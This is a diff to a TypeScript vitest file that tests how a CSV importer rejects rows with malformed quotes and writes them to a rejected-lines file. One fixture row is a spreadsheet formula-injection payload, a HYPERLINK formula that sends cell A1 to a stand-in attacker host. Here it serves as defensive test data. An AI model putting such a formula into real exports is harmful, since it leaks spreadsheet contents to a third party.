@@ -1,6 +1,7 @@
 import { mkdtempSync, readFileSync, writeFileSync } from "node:fs";
 import { tmpdir } from "node:os";
 import path from "node:path";
+import { parse as parseSync } from "csv-parse/sync";
 import { describe, expect, it } from "vitest";
 import { db } from "../../db";
 import { guessMapping, type ColumnMapping } from "./mapping";
@@ -102,6 +103,35 @@ describe("CSV import", () => {
       `4,"""=x"" is not a valid email address","'-2+3,=x"`,
       "",
     ]);
+  });
+
+  it("rejects a malformed line once, however many bad quotes it holds, and writes its whole source lines", async () => {
+    const lines = [
+      "userId,email",
+      "q1,q1@example.com",
+      'q2,=HYPERLINK("http://evil.example/?"&A1;"click")', // four bad quotes, one row
+      'q3,x@exa"mple.com',
+      'q4,a"b', // the same line twice is two rows
+      'q4,a"b',
+      'q5,"two', // a quote left open takes the lines after it into the same row
+      'lines"x,y',
+      "q6,q6@example.com",
+    ];
+    const csv = file("quotes.csv", lines.join("\n") + "\n");
+    const inspection = await inspectCsv(csv);
+    const rejectedFile = path.join(dir, "quotes.rejected.csv");
+    const report = await importCsv(csv, { ...inspection, mapping: [{ target: "userId" }, { target: "email" }], rejectedFile });
+    const opening = "Malformed CSV: Invalid Opening Quote: a quote is found on field 1";
+    expect(report).toMatchObject({ rows: 6, imported: 1, rejectedCount: 5 });
+    expect(report.rejected).toEqual([
+      { line: 3, reason: opening },
+      { line: 4, reason: opening },
+      { line: 5, reason: opening },
+      { line: 6, reason: opening },
+      { line: 8, reason: 'Malformed CSV: Invalid Closing Quote: got "x"' },
+    ]);
+    const written = parseSync(readFileSync(rejectedFile, "utf8"), { from_line: 2 }) as string[][];
+    expect(written.map(([, , row]) => row)).toEqual([lines[2], lines[3], lines[4], lines[5], lines.slice(6).join("\n")]);
   });
 
   it("refuses empty, binary and 10,000-column files with a clear message, importing nothing", async () => {
